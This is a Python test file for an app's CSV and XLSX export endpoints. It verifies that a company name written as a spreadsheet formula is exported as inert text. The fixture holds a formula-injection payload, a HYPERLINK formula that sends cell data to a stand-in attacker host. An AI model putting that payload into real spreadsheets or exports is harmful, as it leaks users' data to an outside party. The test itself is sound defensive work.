"""Web and API exports hand no formula to a spreadsheet: a firm named =HYPERLINK(...) is text in
CSV (an apostrophe before it) and in XLSX (a text cell), and the XLSX imports back with the name."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from tests.web.conftest import api_token, fill_workspace, page_login
from xinzhi.credit_code import make_credit_code
from xinzhi.workspace import Workspace, open_workspace

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
CODE = make_credit_code("510104", 77)


@pytest.fixture(scope="module")
def x_ws(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    ws = fill_workspace(open_workspace(tmp_path_factory.mktemp("exports") / "ws"))
    ws.write("enterprise", pd.DataFrame([{"credit_code": CODE, "name": EVIL, "region_code": "510104",
                                          "industry_code": "3411", "tags": "@risky;+tag"}]), source="tricky name")
    yield ws
    ws.close()


def formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def test_web_and_api_exports_are_neutralised(x_ws: Workspace, tmp_path: Path) -> None:
    from xinzhi.web.app import create_app

    c = TestClient(create_app(x_ws))
    h = api_token(c, "chengdu")
    api_csv = c.get("/api/v1/tables/enterprises", params={"format": "csv"}, headers=h)
    api_xlsx = c.get("/api/v1/tables/enterprises", params={"format": "xlsx"}, headers=h)
    assert page_login(c, "chengdu") == 303
    web_csv = c.get("/export/enterprises.csv")
    web_xlsx = c.get("/export/enterprises.xlsx")
    for r in (api_csv, web_csv):
        assert r.status_code == 200
        text = r.content.decode("utf-8-sig")
        assert "'=HYPERLINK(" in text
        assert '"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    for r in (api_xlsx, web_xlsx):
        assert r.status_code == 200 and formulas(r.content) == []
        path = tmp_path / "e.xlsx"
        path.write_bytes(r.content)
        from xinzhi.workspace.readers import read_file

        cells = {str(v) for v in read_file(path).frame.to_numpy().ravel()} | set(read_file(path).frame.columns)
        assert EVIL in cells  # whatever the headers and the layout of the file
